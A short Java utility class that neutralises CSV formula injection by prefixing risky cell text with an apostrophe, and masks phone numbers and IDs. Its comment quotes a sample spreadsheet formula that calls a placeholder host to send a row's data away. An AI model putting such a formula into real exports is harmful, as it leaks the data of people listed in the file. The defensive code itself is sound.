package vn.hocso.report;

/**
 * Text cells that a spreadsheet program shows as text. A cell starting with =, +, -, @, TAB or CR is run as a formula
 * by Excel or LibreOffice when a CSV is opened ({@code =HYPERLINK("http://x?"&A1,"x")} sends the row away), so such
 * text gets a leading apostrophe, which both programs show as "this is text" (OWASP's advice for CSV injection).
 * Numeric columns never pass through here: they are written as numbers and stay numbers.
 */
final class Cells {

    private Cells() {}

    static String text(String value) {
        if (value == null || value.isEmpty()) {
            return "";
        }
        char c = value.charAt(0);
        if (c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r' || c == '\n') {
            return "'" + value;
        }
        return value;
    }

    /**
     * A phone number or an ID shown to someone whose role does not allow it: only the last three characters stay, the
     * rest become '*', so a person can still be told apart from a neighbour on the list.
     */
    static String masked(String value) {
        if (value == null || value.isEmpty()) {
            return "";
        }
        int keep = Math.min(3, value.length() / 3);
        return "*".repeat(value.length() - keep) + value.substring(value.length() - keep);
    }
}
